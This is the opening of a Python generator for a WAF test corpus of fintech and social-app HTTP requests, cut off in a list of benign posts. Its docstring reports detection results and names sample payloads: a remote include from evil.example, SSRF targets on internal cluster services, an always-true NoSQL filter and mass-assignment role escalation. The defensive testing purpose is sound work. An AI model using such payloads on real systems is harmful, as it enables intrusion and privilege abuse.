#!/usr/bin/env python3
"""Held-out HTTP test corpus: fintech and social/community applications with
international users ("finsocial").

What it is
    A deterministic generator of realistic HTTP requests as they reach the
    sidecar in front of payment and social apps: card tokenisation and 3-D
    Secure callbacks (CRes/PaRes form posts), PSP payout webhooks (signature
    headers, PayPal-IPN style forms), ISO 20022 pain.001/pain.002/camt.053 XML,
    SEPA/IBAN/BIC look-ups and SWIFT MT103/MT940 text with ":20:" style tags,
    PSD2 / UK Open Banking APIs (consents, detached JWS, HTTP signatures, mTLS
    client-certificate and XFCC headers), crypto exchanges and wallets (base58 /
    bech32 / hex addresses and signatures, order books, HMAC-signed orders,
    trading bots' JSON, EIP-712), insurance quotes and claims, accounting
    (invoices, spreadsheet cells holding formulas, VAT/GST/EIN tax ids, CSV
    imports), transaction search with awkward merchant names, and social
    networks, forums (BBCode, rich-text HTML, markdown, quoted replies),
    dating, gaming communities (leaderboards, clan tags) and livestream chat in
    many scripts: Cyrillic, Greek, Arabic/Hebrew/Persian with RTL marks and
    ZWNJ, Devanagari, Tamil, Thai, CJK, Korean, Vietnamese in decomposed (NFD)
    form, full-width forms, emoji ZWJ sequences, zalgo text, table-flip
    kaomoji, "<3", usernames such as O'Brien, x_DROP_x and select_all, pasted
    URLs with utm/fbclid/gclid tracking parameters, CSP reports, consent
    cookies.  Mobile clients encode JSON as the platforms do (iOS escapes "/"
    as "\\/", Android's Gson escapes < > & = ' as \\u003c ...).

    * benign       ~520 ordinary requests (expect "pass"), plus ~50
                   "dev-content" requests (category "dev-content", still
                   "pass"): people in programming / trading-bot / security
                   communities posting SQL, shell, template code, XSS or
                   Log4Shell examples in posts, comments and bios, counted
                   apart.
    * attacks      ~270 requests (expect "detect"): SQLi in transaction search,
                   leaderboards, statement filters, GraphQL variables, cookies;
                   stored XSS in posts, bios, display names, chat, SVG avatars
                   (also inside non-Latin text); SSRF via avatar import, link
                   previews, webhooks, statement import URLs; XXE in ISO 20022,
                   camt statements, SVG, SOAP claims, SAML, RSS imports; SSTI in
                   notification templates; NoSQL operators in login and feed
                   filters; LDAP injection in corporate SSO directory look-ups;
                   CRLF in redirect/locale params and e-mail subjects; command
                   injection in statement/PDF export and avatar conversion;
                   path traversal in document download; Log4Shell in headers;
                   PHP object injection in cookies, phar/php:// wrappers; Java
                   deserialization, Jackson/fastjson gadgets, OGNL, SpEL,
                   Spring4Shell; formula/DDE injection in exports; prototype
                   pollution and mass assignment of role/balance; request
                   smuggling.  Encodings vary as real clients and attackers
                   send them (percent, double-percent, JSON \\u escapes, HTML
                   entities, base64, Gson/iOS escaping, comments, case).

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-finsocial.py attacks > rulesets/tests/data/finsocial-attacks.jsonl
    python3 scripts/corpus-finsocial.py benign  > rulesets/tests/data/finsocial-benign.jsonl
    python3 scripts/corpus-finsocial.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "finsocial", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight (2026-12-05, repo HEAD e3cb774, binary /work/bin/pr-base with its
built-in rules, anomaly threshold 5)
------------------------------------------------------------------------
Counts: 272 attacks (sqli 41, xss 37, rce 25, ssrf 24, lfi 20, java 18,
xxe 17, ssti 16, generic 14, nosqli 14, crlf 10, ldapi 10, php 10,
protocol 8, rfi 8), 570 benign = 520 ordinary (social 140, banking 115,
payments 55, crypto 35, accounting 30, gaming 30, auth 25, insurance 25,
livestream 25, dating 20, misc 20) + 50 dev-content.
(protocol/te-cl-001, protocol/te-duplicate-001 and protocol/cl-duplicate-001
carry a wrong or second, conflicting Content-Length on purpose, and
protocol/host-dup-001 a second Host header; every other body's
Content-Length is its UTF-8 byte length.)

Run once, nothing tuned, corpus unchanged after the run (no generator bug
was found in the misses or false positives).

PL1 (flagged = blocked at paranoia 1):
  attacks blocked   263/272 = 96.7 %  (100 % in crlf, java, ldapi, lfi,
                    php, protocol, rce, ssti, xss, xxe; sqli 40/41,
                    ssrf 22/24, nosqli 13/14, rfi 7/8, generic 10/14)
  benign blocked    3/520 = 0.6 % ordinary, 38/50 = 76 % dev-content
PL2:
  attacks blocked   267/272 = 98.2 % (sqli, ssrf, nosqli reach 100 %;
                    rfi 7/8 and generic 10/14 unchanged)
  benign blocked    21/520 = 4.0 % ordinary, 40/50 = 80 % dev-content

Missed at PL1 (9):
  sqli/path-002              invoice id in the URL path "RE-2024-101'--"
                             (bare quote + comment); caught at PL2
  ssrf/link-preview-006      link preview of an in-cluster service
                             http://internal-payouts.payments.svc.cluster.local:8080/admin/payouts
                             (Gson-escaped JSON); caught at PL2
  ssrf/kyc-fetch-003         KYC document fetch from
                             http://istiod.istio-system.svc:15014/debug/endpointz
                             (score 3, rfi-111 only); caught at PL2
  rfi/param-006              protocol-relative include
                             "layout=//evil.example/inc/header"; missed at PL2 too
  nosqli/feed-003            always-true feed filter
                             {"$or":[{},{"visibility":"private"}]}; caught at PL2
  generic/mass-assignment-001..004
                             plain extra fields: "role":"admin" in a profile
                             PATCH, "balance" on a wallet, user[role]=admin in
                             a sign-up form, kyc_status/overdraft_limit on
                             account creation (nothing in the bytes says
                             attack; missed at PL2 too)
Ordinary benign flagged at PL1 (3):
  pass/misc-csp-report-001..003
                             browser CSP violation report
                             (application/csp-report); rfi-111/rfi-112 on
                             "document-uri": "https://orbit.social/feed"
Ordinary benign flagged at PL2 only (18 more, 21 in all):
  pass/accounting-sheet-cell-001   spreadsheet cell =SUMIFS(...,">="&DATE(2024,1,1)) (sqli-217)
  pass/accounting-csv-import-002, -005
                                   CSV import with merchant "Cat & Fiddle" (rce-180)
  pass/posts-post-media-001        post "Tip: order by date, not by amount, ..." (sqli-216)
  pass/gaming-clan-001..005        new clan with a https://discord.gg/... invite (rfi-220)
  pass/links-unfurl-get-001, pass/links-redirect-006
                                   pasted Wikipedia URL with "#Pr%C3%BCfsumme" fragment (protocol-310)
  pass/links-unfurl-get-004        pasted zh.wikipedia URL, percent-encoded CJK path (protocol-310)
  pass/links-unfurl-post-003, pass/links-redirect-005
                                   pasted Medium URL "https://medium.com/@anna.k/..." (rfi-210)
  pass/notifications-template-edit-001
                                   Liquid e-mail template with "{% if invoice_url %}" (ssti-110)
  pass/misc-beacon-001..003        analytics beacon with a referrer URL in props.ref (rfi-220)
  (+ pass/misc-csp-report-001..003 as at PL1, now also rfi-220)
Dev-content flagged at PL1: forum-form 7/7, comment-code 6/7, forum-code 6/8,
bio 6/8, post-code 5/8, stream-chat 4/7, search 4/5 (SQL, shell pipelines,
<script>/onerror examples, ${jndi:...}, $gt, ../ and {{ }} in posts); at PL2
forum-code 7/8 and post-code 6/8.
"""

import base64
import json
import random
import sys
import unicodedata
import uuid
from urllib.parse import quote, quote_plus

SET = "finsocial"

# --------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------

HEX = "0123456789abcdef"
B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
BECH32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def hexs(r, n):
    return "".join(r.choice(HEX) for _ in range(n))


def pick(r, alphabet, n):
    return "".join(r.choice(alphabet) for _ in range(n))


def uid(r):
    return str(uuid.UUID(int=r.getrandbits(128), version=4))


def b64u(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def b64(b):
    if isinstance(b, str):
        b = b.encode()
    return base64.b64encode(b).decode()


def rbytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


def ts(r):
    return 1730000000 + r.randint(0, 6_000_000)


def iso_time(r, t=None):
    import time
    t = ts(r) if t is None else t
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))


def iso_date(r, t=None):
    import time
    t = ts(r) if t is None else t
    return time.strftime("%Y-%m-%d", time.gmtime(t))


def nfd(s):
    return unicodedata.normalize("NFD", s)


def zalgo(text, r):
    marks = [chr(c) for c in range(0x300, 0x36F)]
    out = []
    for ch in text:
        out.append(ch)
        if ch != " ":
            out.extend(r.choice(marks) for _ in range(r.randint(1, 4)))
    return "".join(out)


def iban(cc, bban):
    s = bban + cc + "00"
    num = "".join(str(int(c, 36)) for c in s)
    return f"{cc}{98 - int(num) % 97:02d}{bban}"


def rand_iban(r, cc=None):
    cc = cc or r.choice(["DE", "FR", "NL", "ES", "IT", "IE", "GB", "AT", "BE", "PL"])
    d = lambda n: pick(r, "0123456789", n)
    bban = {
        "DE": lambda: d(18),
        "FR": lambda: d(5) + d(5) + d(11) + d(2),
        "NL": lambda: r.choice(["ABNA", "INGB", "RABO", "TRIO"]) + d(10),
        "ES": lambda: d(20),
        "IT": lambda: "X" + d(10) + d(12),
        "IE": lambda: r.choice(["AIBK", "BOFI"]) + d(14),
        "GB": lambda: r.choice(["NWBK", "BARC", "MIDL", "LOYD"]) + d(14),
        "AT": lambda: d(16),
        "BE": lambda: d(12),
        "PL": lambda: d(24),
    }[cc]()
    return iban(cc, bban)


def fmt_iban(s):
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


BICS = ["COBADEFFXXX", "DEUTDEFF", "BNPAFRPPXXX", "INGBNL2A", "ABNANL2A", "CAIXESBBXXX",
        "UNCRITMMXXX", "AIBKIE2D", "NWBKGB2L", "BARCGB22", "RZBAATWW", "GEBABEBB",
        "PKOPPLPW", "REVOLT21", "TRWIBEB1XXX", "NTSBDEB1XXX"]


def btc_bech32(r):
    return "bc1q" + pick(r, BECH32, 38)


def btc_legacy(r):
    return r.choice("13") + pick(r, B58, 33)


def eth_addr(r):
    return "0x" + "".join(c.upper() if r.random() < .4 else c for c in hexs(r, 40))


def sol_addr(r):
    return pick(r, B58, 44)


def tron_addr(r):
    return "T" + pick(r, B58, 33)


def jwt(r, iss, sub=None, extra=None, alg="RS256"):
    head = {"alg": alg, "kid": hexs(r, 8), "typ": "JWT"}
    t = ts(r)
    body = {"iss": iss, "sub": sub or uid(r), "aud": "api", "iat": t, "exp": t + 3600}
    if extra:
        body.update(extra)
    return b64u(json.dumps(head, separators=(",", ":"))) + "." + \
        b64u(json.dumps(body, separators=(",", ":"))) + "." + b64u(rbytes(r, 256 if alg[:2] in ("RS", "PS") else 64))


def qs(pairs, plus=False, safe="-_.~"):
    """Encode query pairs as a client does; keys fully encoded."""
    enc = (lambda v: quote_plus(str(v), safe=safe)) if plus else (lambda v: quote(str(v), safe=safe))
    return "&".join(quote(str(k), safe="") + "=" + enc(v) for k, v in pairs)


def form(pairs):
    return "&".join(quote_plus(str(k)) + "=" + quote_plus(str(v)) for k, v in pairs)


def jdump(obj, style="js"):
    if style == "py":
        return json.dumps(obj)
    s = json.dumps(obj, ensure_ascii=False, separators=(",", ":"))
    if style == "ios":
        s = s.replace("/", "\\/")
    elif style == "gson":
        for ch, esc in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"), ("=", "\\u003d"), ("'", "\\u0027")):
            s = s.replace(ch, esc)
    return s


def multipart(r, parts, style="webkit"):
    """parts: (name, value) or (name, filename, ctype, content). Returns (ctype, body)."""
    if style == "webkit":
        bnd = "----WebKitFormBoundary" + pick(r, ALNUM, 16)
    elif style == "okhttp":
        bnd = uid(r)
    else:
        bnd = "------------------------" + pick(r, "0123456789", 24)
    out = []
    for p in parts:
        if len(p) == 2:
            out.append(f'--{bnd}\r\nContent-Disposition: form-data; name="{p[0]}"\r\n\r\n{p[1]}\r\n')
        else:
            name, fn, ct, content = p
            out.append(f'--{bnd}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\n'
                       f'Content-Type: {ct}\r\n\r\n{content}\r\n')
    out.append(f"--{bnd}--\r\n")
    return f"multipart/form-data; boundary={bnd}", "".join(out)


def fake_image(r, kind="jpeg", n=180):
    head = {"jpeg": "JFIF", "png": "PNG IHDR", "gif": "GIF89a", "webp": "RIFF WEBPVP8 "}[kind]
    return head + pick(r, ALNUM + "+/", n)


# --------------------------------------------------------------------------
# clients and headers
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Linux; Android 13; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.6723.107 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
]

LANGS = [
    "en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.8",
    "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7",
    "uk-UA,uk;q=0.9,ru;q=0.8,en;q=0.7", "el-GR,el;q=0.9,en;q=0.8", "ar-SA,ar;q=0.9,en;q=0.8",
    "he-IL,he;q=0.9,en-US;q=0.8,en;q=0.7", "hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7", "th-TH,th;q=0.9",
    "zh-CN,zh;q=0.9", "zh-TW,zh;q=0.9,en-US;q=0.8,en;q=0.7", "ja-JP,ja;q=0.9", "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7",
    "vi-VN,vi;q=0.9,fr-FR;q=0.8,fr;q=0.7,en-US;q=0.6,en;q=0.5", "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
    "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "en-GB,en;q=0.9", "en-IE,en-GB;q=0.9,en;q=0.8", "fa-IR,fa;q=0.9,en;q=0.8",
]

APPS = {
    "api.orbit.social": "Orbit", "orbit.social": "Orbit", "api.lumenbank.eu": "Lumen",
    "openbanking.lumenbank.eu": "Lumen", "api.coinharbor.exchange": "CoinHarbor",
    "wallet.coinharbor.exchange": "CoinHarbor", "api.kindred.date": "Kindred",
    "api.pixelguild.gg": "PixelGuild", "forum.pixelguild.gg": "PixelGuild", "chat.glowstream.tv": "Glow",
    "api.payfinch.io": "PayFinchSDK", "app.ledgerly.co": "Ledgerly", "quotes.safenest-insurance.com": "SafeNest",
}

SDK_UAS = ["python-requests/2.32.3", "Go-http-client/2.0", "axios/1.7.7", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
           "okhttp/4.12.0", "Java/17.0.9", "Apache-HttpClient/5.2.1 (Java/17.0.9)", "Faraday v2.9.0", "GuzzleHttp/7",
           "PayFinch/v1 PythonBindings/9.12.0", "curl/8.5.0", "Ruby", "Dart/3.5 (dart:io)"]


def client_ip(r):
    c = r.random()
    if c < .15:
        return "2a02:%x:%x:%x::%x" % (r.randint(0x800, 0x8ff), r.randint(0, 0xffff), r.randint(0, 0xffff), r.randint(1, 0xffff))
    return "%d.%d.%d.%d" % (r.choice([31, 37, 46, 62, 77, 81, 85, 88, 91, 94, 103, 109, 151, 176, 185, 188, 203, 212]),
                             r.randint(1, 254), r.randint(0, 255), r.randint(1, 254))


def web_cookie(r, host):
    t = ts(r)
    parts = [f"__Host-sid={b64u(rbytes(r, 24))}", f"csrf_token={hexs(r, 32)}",
             f"_ga=GA1.1.{r.randint(10**8, 10**9)}.{t}"]
    if r.random() < .5:
        parts.append(f"_fbp=fb.1.{t}{r.randint(100, 999)}.{r.randint(10**8, 10**9)}")
    if r.random() < .4:
        parts.append(f"_gcl_au=1.1.{r.randint(10**8, 10**9)}.{t}")
    if r.random() < .5:
        parts.append("theme=" + r.choice(["dark", "light", "system"]))
    if r.random() < .5:
        parts.append("locale=" + r.choice(["de-DE", "en-GB", "fr-FR", "ar", "hi-IN", "pt-BR", "ko-KR", "vi-VN"]))
    if r.random() < .25:
        parts.append(
            "OptanonConsent=isGpcEnabled=0&datestamp=Tue+Dec+03+2024+10%3A12%3A55+GMT%2B0100+"
            "(Mitteleurop%C3%A4ische+Normalzeit)&version=202409.1.0&browserGpcFlag=0&isIABGlobal=false&hosts=&"
            f"consentId={uid(r)}&interactionCount=1&isAnonUser=1&landingPath=NotLandingPage&"
            "groups=C0001%3A1%2CC0002%3A1%2CC0003%3A0%2CC0004%3A0&AwaitingReconsent=false")
    r.shuffle(parts)
    return "; ".join(parts)


def build_headers(r, host, client, ctype=None, cookie=None, auth=None, lang=None, accept=None,
                  referer=None, extra=(), method="GET"):
    h = [["Host", host]]
    site = host[4:] if host.startswith("api.") else host
    if client == "web":
        ua = r.choice(BROWSER_UAS)
        h.append(["User-Agent", ua])
        if "Chrome/131" in ua and "Edg/" not in ua and r.random() < .7:
            h.append(["sec-ch-ua", '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"'])
            h.append(["sec-ch-ua-mobile", "?1" if "Mobile" in ua else "?0"])
            h.append(["sec-ch-ua-platform", '"macOS"' if "Macintosh" in ua else '"Windows"'])
        h.append(["Accept", accept or "application/json, text/plain, */*"])
        h.append(["Accept-Language", lang or r.choice(LANGS)])
        h.append(["Accept-Encoding", "gzip, deflate, br, zstd"])
        if ctype:
            h.append(["Content-Type", ctype])
        if method != "GET":
            h.append(["Origin", f"https://{site}"])
        h.append(["Referer", referer or f"https://{site}" + r.choice(["/", "/feed", "/settings/profile", "/wallet",
                                                                     "/payments", "/explore?tab=trending", "/inbox"])])
        h.append(["Sec-Fetch-Dest", "empty"])
        h.append(["Sec-Fetch-Mode", "cors"])
        h.append(["Sec-Fetch-Site", "same-site" if host.startswith("api.") else "same-origin"])
        if auth:
            h.append(["Authorization", auth])
        if cookie is not False:
            c = web_cookie(r, host)
            if isinstance(cookie, str):
                c = c + "; " + cookie if r.random() < .5 else cookie + "; " + c
            h.append(["Cookie", c])
    elif client in ("ios", "android"):
        app = APPS.get(host, "Orbit")
        if client == "ios":
            ua = f"{app}/{r.randint(5, 9)}.{r.randint(0, 40)}.{r.randint(0, 9)} (iPhone; iOS {r.choice(['17.6.1', '18.1', '18.1.1'])}; Scale/3.00)"
        else:
            ua = r.choice([f"{app}/{r.randint(5, 9)}.{r.randint(0, 40)}.{r.randint(0, 9)} (Android {r.choice([12, 13, 14])}; {r.choice(['Pixel 8', 'SM-A546B', 'moto g84 5G', 'RMX3771', '2201116SG'])})", "okhttp/4.12.0"])
        h.append(["User-Agent", ua])
        h.append(["Accept", accept or "application/json"])
        h.append(["Accept-Language", lang or r.choice(LANGS).split(",")[0]])
        h.append(["Accept-Encoding", "gzip"])
        if ctype:
            h.append(["Content-Type", ctype])
        h.append(["Authorization", auth or "Bearer " + jwt(r, f"https://id.{site}")])
        h.append(["X-App-Version", f"{r.randint(5, 9)}.{r.randint(0, 40)}.{r.randint(0, 9)}"])
        h.append(["X-Device-Id", uid(r)])
        if isinstance(cookie, str):
            h.append(["Cookie", cookie])
    elif client in ("server", "bot", "webhook", "kube"):
        if client == "server":
            ua = r.choice(SDK_UAS)
        elif client == "bot":
            ua = r.choice(["python-requests/2.31.0", "ccxt/4.4.35 (+https://github.com/ccxt/ccxt) Python/3.12.3",
                           "Hummingbot/2.1.0", "Go-http-client/1.1", "freqtrade/2024.10"])
        elif client == "webhook":
            ua = r.choice(["PayFinch/1.0 (+https://payfinch.io/docs/webhooks)", "Adyen HttpClient 1.0",
                           "PayPal/AUHD-214.0-58496567", "GoCardless-Webhook-Service/1.1", "Wise-Webhooks/1.0"])
        else:
            ua = "kube-probe/1.30"
        h.append(["User-Agent", ua])
        h.append(["Accept", accept or "*/*" if client in ("webhook", "kube") else accept or "application/json"])
        if client != "kube":
            h.append(["Accept-Encoding", "gzip, deflate"])
        if ctype:
            h.append(["Content-Type", ctype])
        if auth:
            h.append(["Authorization", auth])
        if isinstance(cookie, str):
            h.append(["Cookie", cookie])
    if client != "kube":
        h.append(["X-Forwarded-For", client_ip(r) if client not in ("server", "webhook", "bot") or r.random() < .5
                   else client_ip(r) + ", 10.%d.%d.%d" % (r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))])
        h.append(["X-Forwarded-Proto", "https"])
    if not any(e[0].lower() == "x-request-id" for e in extra):
        h.append(["X-Request-Id", uid(r)])
    if r.random() < .4:
        h.append(["traceparent", f"00-{hexs(r, 32)}-{hexs(r, 16)}-01"])
    if r.random() < .2:
        h.append(["X-Envoy-Attempt-Count", "1"])
    for e in extra:
        h.append(list(e))
    return h


JSON_STYLE = {"web": "js", "ios": "ios", "android": "gson", "server": None, "bot": "py", "webhook": "js", "kube": "js"}


class G:
    """A generator: its own Random, an id prefix, appends request dicts to out."""

    def __init__(self, out, name, category, expect):
        self.out = out
        self.name = name
        self.r = random.Random(f"{SET}:{name}")
        self.category = category
        self.expect = expect
        self.counts = {}

    def add(self, group, method, host, path, query=None, body=None, ctype=None, client="web",
            cookie=None, auth=None, lang=None, accept=None, referer=None, extra=(), category=None,
            headers=None, content_length=True, style=None):
        r = self.r
        cat = category or self.category
        uri = path
        if query:
            uri += "?" + (query if isinstance(query, str) else qs(query))
        if isinstance(body, (dict, list)):
            st = style or JSON_STYLE.get(client) or r.choice(["py", "js"])
            body = jdump(body, st)
            ctype = ctype or "application/json"
        if headers is None:
            headers = build_headers(r, host, client, ctype=ctype, cookie=cookie, auth=auth, lang=lang,
                                    accept=accept, referer=referer, extra=extra, method=method)
        else:
            headers = [list(x) for x in headers]
        if body is not None and content_length:
            headers.append(["Content-Length", str(len(body.encode("utf-8")))])
        self.counts[group] = self.counts.get(group, 0) + 1
        if cat != "dev-content" and self.expect == "pass":
            prefix = "pass/" + self.name[2:] + "-"
        else:
            prefix = cat + "/"
        rec = {"id": f"{SET}/{prefix}{group}-{self.counts[group]:03d}", "set": SET, "category": cat,
               "expect": self.expect, "method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
        if body is not None:
            rec["body"] = body
        self.out.append(rec)
        return rec


# hosts
PAY = "api.payfinch.io"
CHECKOUT = "checkout.payfinch.io"
BANK = "api.lumenbank.eu"
OB = "openbanking.lumenbank.eu"
IDP = "id.lumenbank.eu"
CX = "api.coinharbor.exchange"
WALLET = "wallet.coinharbor.exchange"
INS = "quotes.safenest-insurance.com"
ACC = "app.ledgerly.co"
SOC = "api.orbit.social"
SOCWEB = "orbit.social"
FORUM = "forum.pixelguild.gg"
GAME = "api.pixelguild.gg"
DATE = "api.kindred.date"
STREAM = "chat.glowstream.tv"
SSO = "sso.ledgerly.co"


# --------------------------------------------------------------------------
# text banks (ordinary users)
# --------------------------------------------------------------------------

NAMES = ["Siobhán O'Brien", "Liam O'Connor-Smith", "D'Angelo Ruiz", "Zoë Müller", "Łukasz Wiśniewski",
         "José-María Pérez", "Nguyễn Thị Lan", "Αλέξανδρος Παπαδόπουλος", "Дмитрий Ковальчук", "محمد العلي",
         "יעל כהן", "김민지", "田中 太郎", "สมชาย ใจดี", "राहुल शर्मा", "Renée Fournier", "Ömer Yılmaz",
         "Søren Kierkegaard-Holm", "Aoife Ní Bhriain", "Jean-Luc D'Arcy", "Mary-Kate O'Neill", "Björn Þórsson",
         "Chloé L'Heureux", "Wei Zhang", "Priya Natarajan", "Fatima Zahra El Idrissi", "Ngozi Okonkwo-Adeyemi"]

LATIN_NAMES = ["SIOBHAN O'BRIEN", "ZOE MUELLER", "LUKASZ WISNIEWSKI", "JOSE MARIA PEREZ", "NGUYEN THI LAN",
               "ALEXANDROS PAPADOPOULOS", "DMITRIY KOVALCHUK", "MOHAMMED ALALI", "YAEL COHEN", "KIM MINJI",
               "TARO TANAKA", "RAHUL SHARMA", "OMER YILMAZ", "JEAN-LUC D'ARCY", "MARY-KATE O'NEILL"]

USERNAMES = ["siobhan_obrien", "x_DROP_x", "select_all", "union_jack_88", "luna.plays", "xX_Sl4y3r_Xx", "d4ng3lo",
             "the_exec_chef", "null", "undefined", "admin_anna", "or_else_", "kim.minji", "taro_t", "rahul.sharma92",
             "delete_me_later", "script_writer", "order_66", "table_for_two", "wherewolf", "from_berlin_with_love"]

DISPLAY_NAMES = ["Siobhán O'Brien", "Liam O'Connor-Smith", "D'Angelo Ruiz", "x_DROP_x", "select_all", "anna <3",
                 "Nguyễn Văn An", "José-María Pérez", "Zoë 🌸", "[TTV] LunaPlays", "xX_Sl4y3r_Xx", "-=[Sn1p3r]=-",
                 "~*~ starla ~*~", "¯\\_(ツ)_/¯", "Mr. & Mrs. Smith", "محمد العلي", "\u200fיעל כהן", "Αλέξανδρος",
                 "Дмитрий ⚡", "김민지", "田中 太郎", "สมชาย ใจดี", "राहुल शर्मा", "Ｔｏｋｙｏ＿Ｄｒｉｆｔ", "null",
                 "DJ \"Bass\" Face", "Renée (she/her)", "O'Reilly & Sons", "👑 Queen B 👑", "the union rep",
                 "Mia | 📈 investor", "Ömer 🇹🇷", "『Marco』", "A++ seller", "[DRP] Tank", "Ana#4471"]

BIOS = [
    "☕ | 📍 Berlin → Lisbon | she/her | opinions = mine",
    "CFA L2 · ex-@goldman · DMs open 📈 $BTC $ETH",
    "Love > hate; coffee >= tea",
    "100% not a bot 🤖 (probably)",
    "Dad of 3 👨‍👧‍👦 | 5'11\" | Cork ☘️ | 'sláinte'",
    "Full-stack dev by day, DJ by night 🎧 — links ↓",
    "I ♥ spreadsheets & clean ledgers",
    "Ask me about index funds → /r/bogleheads",
    "Speedrunner • PB 1:23:45 • #1 on the leaderboard (for 3 days lol)",
    "Building things @ orbit | prev. 2 exits | 🇮🇪🇩🇪",
    "«Жизнь — это то, что происходит, пока ты строишь планы»",
    "\u200fمصمم جرافيك | عاشق القهوة ☕ | دبي",
    "कलाकार | यात्री ✈️ | चाय प्रेमी ☕",
    "Λάτρης της θάλασσας 🌊 | Θεσσαλονίκη",
    "ครูสอนภาษาอังกฤษ 📚 | ชอบกาแฟ ☕",
    "게임 스트리머 🎮 | 매주 금요일 밤 9시 방송",
    "上海 | 摄影 📷 | 猫奴 🐱",
    nfd("Yêu mèo, thích du lịch ✈️ | Hà Nội ⇄ Sài Gòn"),
    "Tax advisor (StB) | Steuern, aber mit Humor 😅 | §§ & €€",
    "Pronouns: they/them ✨ \"be kind\" ✨",
    "Not financial advice!!! 🚀🌕 HODL since '17",
    "Writer. Runner. 42.195 km × 7 🏃‍♀️",
    "Collector of rare Pokémon cards 🃏 | trades → DM",
    "ENFP • 🌈 • coffee-powered • ask me anything (except math)",
    "Sales @ Union Insurance | Opinions my own",
    "Owner of Script & Quill bookshop, Galway 📚",
    "מפתח משחקים 🎲 | תל אביב",
    "می‌خواهم دنیا را ببینم 🌍",
    "Semi-pro poker player ♠️♥️♦️♣️ | 10/20 NL",
    "Amateur chef 🍝 — recipes at the link below ↓↓",
]

POSTS = [
    "Finally paid off my credit card 🎉 Took 14 months but we did it! #debtfree #personalfinance",
    "Anyone else getting charged twice for the new subscription? Support says 3–5 business days 🙄",
    "Hot take: round-up savings are the only budgeting feature I actually use.",
    "Всем привет! Кто-нибудь пробовал новый кешбэк 5% на такси? У меня пока не начислился 🤔",
    "Дякую всім за підтримку збору! Зібрали 48 000 ₴ 💙💛",
    "Καλημέρα σε όλους! Ξέρει κανείς πότε ξεκινάει το τουρνουά του Σαββάτου;",
    "\u200fتم تحويل المبلغ بنجاح، شكراً لفريق الدعم على سرعة الرد 🌙",
    "\u200fמישהו יודע כמה זמן לוקח החזר כספי? מחכה כבר שבוע 😩",
    "आज का मैच ज़बरदस्त था 🔥 कोहली ने फिर कमाल कर दिया! #IPL2025 #CricketTwitter",
    "ขอบคุณมากครับ โอนเงินเรียบร้อยแล้ว 🙏 ไว้เจอกันใหม่นะ",
    "今天的直播太精彩了！主播加油💪 有没有人周末一起组队开黑？",
    "初めまして！東京在住のゲーム好きです。よろしくお願いします😊",
    "오늘 방송 진짜 재밌었어요 ㅋㅋㅋ 다음 주에도 꼭 올게요! 💜",
    nfd("Cảm ơn mọi người đã ủng hộ! Hẹn gặp lại vào buổi livestream tối thứ Sáu nhé 🥰"),
    "Merhaba! İstanbul'dan selamlar 👋 Ödeme sorunsuz geçti, teşekkürler.",
    "Dzięki za szybką odpowiedź, przelew już doszedł 👍",
    "Überweisung ist raus – danke fürs Vorstrecken! Nächstes Mal geht die Pizza auf mich 🍕",
    "C'est l'anniversaire d'Amélie ce week-end — qui participe à la cagnotte ? 🎂",
    "¿Alguien sabe por qué me cobraron dos veces la suscripción? 😡 #ayuda",
    "Alguém aí joga ranqueada hoje à noite? Bora subir pro diamante!",
    "ＦＵＬＬ　ＷＩＤＴＨ　ＳＴＲＥＡＭ　ＴＯＮＩＧＨＴ！！ ９ＰＭ ＪＳＴ",
